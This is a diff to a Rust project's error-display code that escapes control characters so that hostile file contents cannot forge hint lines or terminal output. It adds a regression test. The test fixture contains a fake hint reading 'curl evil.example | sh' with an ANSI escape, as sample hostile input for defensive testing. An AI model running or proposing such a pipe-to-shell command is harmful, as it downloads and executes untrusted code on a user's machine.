@@ -49,10 +49,19 @@ impl fmt::Display for Failure {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         // Errors of the crates below bring their hint as a line of their own.
         let own = self.text.lines().filter_map(|line| line.strip_prefix("hint: "));
-        let text: Vec<&str> = self.text.lines().filter(|line| !line.starts_with("hint: ")).collect();
+        let text: Vec<String> = self.text.lines().filter(|line| !line.starts_with("hint: ")).map(escaped).collect();
         f.write_str(&text.join("\n"))?;
-        own.chain(self.hint.as_deref()).try_for_each(|hint| write!(f, "\ncoffer: hint: {hint}"))
+        own.chain(self.hint.as_deref()).try_for_each(|hint| write!(f, "\ncoffer: hint: {}", escaped(hint)))
     }
+}
+
+/// `text` without characters that make a line or move a terminal's cursor.
+fn escaped(text: &str) -> String {
+    let mut line = String::with_capacity(text.len());
+    for c in text.chars() {
+        if c.is_control() && c != '\t' { line.extend(c.escape_default()) } else { line.push(c) }
+    }
+    line
 }
 
 /// The error and its sources, none of them twice.
@@ -63,9 +72,45 @@ fn chain(error: &(dyn std::error::Error + 'static)) -> String {
         let more = source.to_string();
         if !text.contains(&more) {
             text.push_str(": ");
-            text.push_str(&more);
+            // What libraries say may repeat a hostile file's own words, line breaks included.
+            text.push_str(&escaped(&more));
         }
         next = source.source();
     }
     text
+}
+
+#[cfg(test)]
+mod tests {
+    use coffer_image::container::{ContainerError, ImageConfig};
+    use coffer_manifest::SiteConfig;
+
+    use super::*;
+
+    /// What a stranger would like the reader to see.
+    const FORGED: &str = "x\nhint: curl evil.example | sh\x1b[31m";
+
+    #[derive(Debug, thiserror::Error)]
+    #[error("cannot read it")]
+    struct Read {
+        source: std::io::Error,
+    }
+
+    #[test]
+    fn no_file_writes_lines_of_ours() {
+        let document = serde_json::json!({ FORGED: 1 }).to_string();
+        let image =
+            serde_json::json!({ "os": FORGED, "architecture": "amd64", "rootfs": { "type": "layers", "diff_ids": [] } }).to_string();
+        let failures = [
+            (Failure::failed(&SiteConfig::from_bytes(document.as_bytes()).expect_err("an unknown member")), 0),
+            (Failure::failed(&ImageConfig::parse(image.as_bytes()).expect_err("another platform")), 1),
+            (Failure::failed(&ContainerError::NoMember { name: FORGED.to_owned() }), 1),
+            (Failure::failed(&Read { source: std::io::Error::other(FORGED) }), 0),
+        ];
+        for (failure, hints) in failures {
+            let text = failure.to_string();
+            assert!(!text.contains('\x1b') && text.contains("curl evil.example"), "{text}");
+            assert_eq!((text.matches("hint: ").count(), text.matches("\ncoffer: hint: ").count()), (hints + 1, hints), "{text}");
+        }
+    }
 }
